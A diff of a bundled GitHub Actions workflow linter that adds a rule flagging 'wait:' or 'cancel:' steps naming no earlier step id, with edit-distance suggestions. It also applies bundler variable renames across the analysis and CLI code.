+  check({ file, report: report2 }) {
     const workflow = file.workflow;
     const seen = /* @__PURE__ */ new Set();
     const jobs = workflow ? workflow.jobs.map((job) => ({ job, steps: job.steps })) : file.action ? [{ job: null, steps: file.action.steps }] : [];
@@ -16334,7 +16399,7 @@ var useTrustedPublishing = {
         const value = input(step, credential.key) ?? "";
         if (credential.key === "password" && /secrets\.GITHUB_TOKEN/i.test(value)) continue;
         seen.add(entry.keySpan.start);
-        report({
+        report2({
           span: entry.keySpan,
           message: `\`${action.name}\` publishes to ${credential.registry} with a long-lived credential (\`${credential.key}\`); ${credential.registry} supports Trusted Publishing${oidc2 ? " and this job already has `id-token: write`: drop the credential" : ": grant `id-token: write` and drop it"}`
         });
@@ -16359,7 +16424,7 @@ var useTrustedPublishing = {
         const span = run2.sourceSpan({ start: command.argv[0].span.start, end: (command.argv[1] ?? command.argv[0]).span.end });
         if (seen.has(span.start)) continue;
         seen.add(span.start);
-        report({
+        report2({
           span,
           message: `\`${publish.label}\` publishes to ${registry} with a long-lived credential (${credential}); ${registry} supports Trusted Publishing: grant the job \`id-token: write\` and drop the token`
         });
@@ -16383,6 +16448,119 @@ var ATTACK_PATH_RULES = [
   unpinnedTools
 ];
 
+// server/src/rules/unknown-step-reference.ts
+var PLAIN_ID = /^[A-Za-z0-9_-]+$/;
+var MAX_SUGGESTED_LENGTH = 100;
+var SUGGESTION_BUDGET = 2e6;
+function targetOf2(file, node, source) {
+  const start = source ? valueOffsetInSource(source, file.text) : null;
+  if (start === null) return { value: node.value, span: node.span, exact: false };
+  return { value: node.value, span: { start, end: start + node.value.length }, exact: true };
+}
+function targets2(file, entry, list) {
+  if (!entry || !entry.value) return [];
+  const single = spannedString(entry.value);
+  if (single) return [targetOf2(file, single, entry.value)];
+  if (!list) return [];
+  const found = [];
+  for (const item of seqItems(asSeq(entry.value), file.doc)) {
+    const id = spannedString(item);
+    if (id) found.push(targetOf2(file, id, item));
+  }
+  return found;
+}
+function closest(wanted, known, budget) {
+  const lower2 = wanted.toLowerCase();
+  const sameLetters = known.byLower.get(lower2);
+  if (sameLetters !== void 0) return sameLetters;
+  if (wanted.length > MAX_SUGGESTED_LENGTH || budget.left <= 0) return null;
+  const limit = Math.max(1, Math.min(3, Math.floor(wanted.length / 3)));
+  let best = null;
+  let bestDistance = limit + 1;
+  for (let i = 0; i < known.list.length; i++) {
+    const candidate = known.lower[i];
+    budget.left -= 1;
+    if (budget.left < 0) return best;
+    if (candidate.length > MAX_SUGGESTED_LENGTH || Math.abs(candidate.length - lower2.length) > limit) continue;
+    budget.left -= (lower2.length + 1) * (candidate.length + 1);
+    const distance = editDistance(lower2, candidate, limit);
+    if (distance < bestDistance) {
+      best = known.list[i];
+      bestDistance = distance;
+    }
+  }
+  return best;
+}
+function checkJob(ctx, job, budget) {
+  const { file } = ctx;
+  const top = job.steps.filter((step) => step.parallel === null);
+  const laterIds = /* @__PURE__ */ new Map();
+  const groupIds = /* @__PURE__ */ new Map();
+  for (const step of job.steps) {
+    const id = step.id?.value;
+    if (id === void 0) continue;
+    if (step.parallel === null) {
+      if (!laterIds.has(id)) laterIds.set(id, step);
+    } else if (!groupIds.has(id)) groupIds.set(id, step);
+  }
+  const known = { list: [], lower: [], exact: /* @__PURE__ */ new Set(), byLower: /* @__PURE__ */ new Map() };
+  for (const step of top) {
+    const own = step.id?.value ?? null;
+    for (const [key, list] of [["wait", true], ["cancel", false]]) {
+      for (const target of targets2(file, step.get(key), list)) {
+        if (target.value === "" || target.value.includes("${{")) continue;
+        if (known.exact.has(target.value)) continue;
+        report(ctx, job, step, key, target, own, known, laterIds.get(target.value) ?? null, groupIds.get(target.value) ?? null, budget);
+      }
+    }
+    if (own !== null && !known.exact.has(own)) {
+      const lower2 = own.toLowerCase();
+      known.exact.add(own);
+      known.list.push(own);
+      known.lower.push(lower2);
+      if (!known.byLower.has(lower2)) known.byLower.set(lower2, own);
+    }
+  }
+}
+function report(ctx, job, step, key, target, own, known, later, inGroup, budget) {
+  const id = target.value;
+  const where = `\`${key}:\` of step ${step.name || step.id ? `\`${step.label}\`` : step.position} in job \`${job.id}\``;
+  let message;
+  let suggestion2 = null;
+  if (own !== null && own.toLowerCase() === id.toLowerCase()) {
+    message = `${where} names the step itself (\`${id}\`): a step cannot ${key === "wait" ? "wait for" : "cancel"} itself`;
+  } else if (later && later !== step) {
+    message = `${where} names \`${id}\`, a later step (step ${later.position}): only a step defined earlier can be ${key === "wait" ? "waited for" : "cancelled"}`;
+  } else if (inGroup) {
+    message = `${where} names \`${id}\`, a step inside the \`parallel:\` group at step ${inGroup.parallel?.position ?? "?"}: the group already waits for its own steps, and GitHub does not accept their ids here`;
+  } else {
+    suggestion2 = closest(id, known, budget);
+    const hint = suggestion2 !== null ? `: did you mean \`${suggestion2}\`?` : known.list.length > 0 ? ` (ids defined before it: ${known.list.slice(0, 5).map((k) => `\`${k}\``).join(", ")}${known.list.length > 5 ? ", …" : ""})` : ": no step before it has an `id:`";
+    message = `${where} names \`${id}\`, which is not the id of an earlier step${hint}`;
+  }
+  const fixes = suggestion2 !== null && target.exact && PLAIN_ID.test(suggestion2) ? [{ title: `Change \`${id}\` to \`${suggestion2}\``, isPreferred: true, safety: "unsafe", edits: [{ span: target.span, newText: suggestion2 }] }] : [];
+  ctx.report({ span: target.span, message, fixes });
+}
+var unknownStepReference = {
+  id: "unknown-step-reference",
+  title: "`wait:` or `cancel:` names no earlier step of the job",
+  kinds: ["workflow"],
+  severity: "medium",
+  confidence: "high",
+  persona: "regular",
+  docs: {
+    summary: "A `wait:` or `cancel:` step names a step id that no earlier step of the job has (a typo, a later step, a step inside a `parallel:` group, or the step itself).",
+    why: "Background steps (`background: true`) keep running while the job continues: `wait:` is what keeps a later step from reading a file, a cache or credentials before a background step has finished writing them, and `cancel:` is what stops a background server, tunnel or debugging session before the steps that handle secrets or publish run. An id that names no earlier step means the step you meant is neither waited for nor stopped. GitHub's own parser (`@actions/workflow-parser` 0.3.61) rejects such a reference, so the workflow fails to start once pushed; this rule reports it as you type, says why (a typo, a later step, a step inside a `parallel:` group, the step itself) and offers the closest id.",
+    fix: "Name the `id:` of an earlier step of the same `steps:` list (ids are case-sensitive here). The quick fix replaces the id with the closest one defined before the step."
+  },
+  check(ctx) {
+    const workflow = ctx.file.workflow;
+    if (!workflow) return;
+    const budget = { left: SUGGESTION_BUDGET };
+    for (const job of workflow.jobs) checkJob(ctx, job, budget);
+  }
+};
+
 // server/src/rules/index.ts
 var RULES = [
   dangerousTriggers,
@@ -16402,7 +16580,8 @@ var RULES = [
   staleActionRefs,
   refConfusion,
   ...CATALOGUE_RULES,
-  ...ATTACK_PATH_RULES
+  ...ATTACK_PATH_RULES,
+  unknownStepReference
 ];
 var byId = new Map(RULES.map((rule) => [rule.id, rule]));
 function ruleById(id) {
@@ -16524,20 +16703,20 @@ function analyze(file, options = DEFAULT_ANALYSIS_OPTIONS) {
 function* analysisSteps(file, options) {
   if (file.kind === "unknown") return [];
   const findings = [];
-  const toFinding = (rule, report) => {
-    const finding = buildFinding(rule, report);
-    return typeof report.fixes === "function" ? withLazyFixes(finding, report.fixes) : finding;
+  const toFinding = (rule, report2) => {
+    const finding = buildFinding(rule, report2);
+    return typeof report2.fixes === "function" ? withLazyFixes(finding, report2.fixes) : finding;
   };
-  const buildFinding = (rule, report) => ({
+  const buildFinding = (rule, report2) => ({
     ruleId: rule.id,
-    severity: report.severity ?? rule.severity,
-    confidence: report.confidence ?? rule.confidence,
-    persona: report.persona ?? rule.persona,
-    message: report.message,
-    span: report.span,
-    range: file.lines.range(report.span),
-    related: (report.related ?? []).map((related2) => ({ ...related2, range: file.lines.range(related2.span) })),
-    fixes: typeof report.fixes === "function" ? [] : report.fixes ?? []
+    severity: report2.severity ?? rule.severity,
+    confidence: report2.confidence ?? rule.confidence,
+    persona: report2.persona ?? rule.persona,
+    message: report2.message,
+    span: report2.span,
+    range: file.lines.range(report2.span),
+    related: (report2.related ?? []).map((related2) => ({ ...related2, range: file.lines.range(related2.span) })),
+    fixes: typeof report2.fixes === "function" ? [] : report2.fixes ?? []
   });
   for (const problem of file.problems) {
     if (problem.code === INTERNAL_ERROR_RULE) {
@@ -16555,8 +16734,8 @@ function* analysisSteps(file, options) {
   const context = {
     file,
     config: NO_CONFIG,
-    report: (report) => {
-      if (current) findings.push(toFinding(current, report));
+    report: (report2) => {
+      if (current) findings.push(toFinding(current, report2));
     }
   };
   for (const rule of options.rules ?? RULES) {
@@ -16582,8 +16761,8 @@ function* analysisSteps(file, options) {
   const kept = adjusted.filter((finding) => !ignores.suppresses(finding));
   if (!options.disabledRules.has(UNUSED_IGNORE_RULE)) {
     const ran = new Set((options.rules ?? RULES).filter((rule) => rule.kinds.includes(file.kind) && !options.disabledRules.has(rule.id)).map((rule) => rule.id));
-    for (const report of unusedIgnores(file, ignores, ran)) {
-      const finding = toFinding(UNUSED_IGNORE, report);
+    for (const report2 of unusedIgnores(file, ignores, ran)) {
+      const finding = toFinding(UNUSED_IGNORE, report2);
       const final = options.adjust ? options.adjust(finding) : finding;
       if (final && !ignores.suppresses(final)) kept.push(final);
     }
@@ -18396,8 +18575,8 @@ function discover(paths, cwd) {
       errors.push(`${given}: not a regular file or folder`);
     }
   }
-  const targets2 = [...found.values()].sort((a, b) => compareStrings(a.displayPath, b.displayPath));
-  return { targets: targets2, errors, skipped };
+  const targets3 = [...found.values()].sort((a, b) => compareStrings(a.displayPath, b.displayPath));
+  return { targets: targets3, errors, skipped };
 }
 function explicitFileRoot(absolute) {
   const parts = absolute.split(import_node_path4.sep);
@@ -19712,7 +19891,7 @@ function wantsOnline(argv, options, env) {
   if (options.offline) return false;
   return argv.includes("--online") || options.githubServerUrl !== void 0 || options.githubApiUrl !== void 0 || Boolean(env.GITHUB_TOKEN || env.GH_TOKEN);
 }
-async function cliOnlineSnapshot(hosts, env, targets2, warn2, resolverOptions = {}) {
+async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = {}) {
   const resolver = new GitHubResolver({
     serverUrl: hosts.serverUrl,
     apiUrl: hosts.apiUrl,
@@ -19730,7 +19909,7 @@ async function cliOnlineSnapshot(hosts, env, targets2, warn2, resolverOptions = 
   }
   const serverUrl = `${resolver.http.server.origin}${trimEndOf(resolver.http.server.pathname, "/")}`;
   const files = [];
-  for (const target of targets2) {
+  for (const target of targets3) {
     if (target.path === STDIN_PATH || target.kind === "dependabot") continue;
     const read = readTarget(target.path, target.root);
     if (read.ok && "text" in read) files.push(parseFile(target.path, target.kind, read.text));
@@ -19823,7 +20002,7 @@ Try '${TOOL_NAME} --help' for more information.
     }
     return choice;
   };
-  const { targets: targets2, errors: discoveryErrors, skipped } = discover(options.paths, io.cwd);
+  const { targets: targets3, errors: discoveryErrors, skipped } = discover(options.paths, io.cwd);
   errors.push(...discoveryErrors);
   for (const message of skipped) io.stderr.write(`${TOOL_NAME}: note: skipped ${escapeText(message)}
 `);
@@ -19831,9 +20010,9 @@ Try '${TOOL_NAME} --help' for more information.
     const note = (message) => io.stderr.write(`${TOOL_NAME}: note: ${escapeText(message)}
 `);
     const hosts = chooseCliHosts(options, io.env, readUserConfig(userConfigPath(io.env)), note);
-    const repositoryConfigs = new Set(targets2.map((target) => configFor(target).config).filter((config) => config !== null));
+    const repositoryConfigs = new Set(targets3.map((target) => configFor(target).config).filter((config) => config !== null));
     for (const config of repositoryConfigs) config.problems.push(...refusedRepositoryHosts(config, hosts));
-    useOnlineSnapshot(await cliOnlineSnapshot(hosts, io.env, targets2, note));
+    useOnlineSnapshot(await cliOnlineSnapshot(hosts, io.env, targets3, note));
   } else {
     useOnlineSnapshot(void 0);
   }
@@ -19843,7 +20022,7 @@ Try '${TOOL_NAME} --help' for more information.
   const escapedDiffs = [];
   let changedFiles = 0;
   let effectiveMinSeverity = options.minSeverity;
-  for (const target of targets2) {
+  for (const target of targets3) {
     const choice = configFor(target);
     if (choice.config) usedConfigs.add(choice.config);
     const relative3 = target.path === STDIN_PATH ? target.displayPath : relativeTo(choice.root, target.path);
@@ -19869,9 +20048,9 @@ Try '${TOOL_NAME} --help' for more information.
           changedFiles++;
           fixReports.push(`${target.displayPath}: ${fixed.describe}`);
           if (options.dryRun) {
-            const report = unifiedDiffReport(read.text, fixed.text, `a/${target.displayPath}`, `b/${target.displayPath}`);
-            diff += report.text;
-            if (report.escaped) escapedDiffs.push(target.displayPath);
+            const report2 = unifiedDiffReport(read.text, fixed.text, `a/${target.displayPath}`, `b/${target.displayPath}`);
+            diff += report2.text;
+            if (report2.escaped) escapedDiffs.push(target.displayPath);
             read = { ok: true, text: fixed.text };
           } else {
             try {
@@ -19893,7 +20072,7 @@ Try '${TOOL_NAME} --help' for more information.
       results.push(result);
     }
   }
-  if (options.fix && targets2.some((target) => target.path === STDIN_PATH)) io.stderr.write(`${TOOL_NAME}: note: standard input is analysed but not fixed
+  if (options.fix && targets3.some((target) => target.path === STDIN_PATH)) io.stderr.write(`${TOOL_NAME}: note: standard input is analysed but not fixed
 `);
   const threshold = SEVERITIES.indexOf(effectiveMinSeverity);
   for (const config of usedConfigs) {
@@ -19903,7 +20082,7 @@ Try '${TOOL_NAME} --help' for more information.
   sortResults(results);
   if (options.fix) {
     const verb = options.dryRun ? "would fix" : "fixed";
-    for (const report of fixReports) io.stderr.write(`${TOOL_NAME}: ${verb} ${escapeText(report)}
+    for (const report2 of fixReports) io.stderr.write(`${TOOL_NAME}: ${verb} ${escapeText(report2)}
 `);
     for (const path of escapedDiffs) {
       io.stderr.write(`${TOOL_NAME}: note: the diff of ${escapeText(path)} shows control or bidirectional characters escaped (\\xNN, \\uNNNN); it does not apply as is
@@ -19919,7 +20098,7 @@ Try '${TOOL_NAME} --help' for more information.
   }
   for (const error of errors) io.stderr.write(`${TOOL_NAME}: error: ${escapeText(error)}
 `);
-  if (targets2.length === 0 && errors.length === 0) {
+  if (targets3.length === 0 && errors.length === 0) {
     io.stderr.write(`${TOOL_NAME}: no workflow, action or Dependabot files found in ${options.paths.length ? escapeText(options.paths.join(", ")) : "the current folder"}
 `);
   }
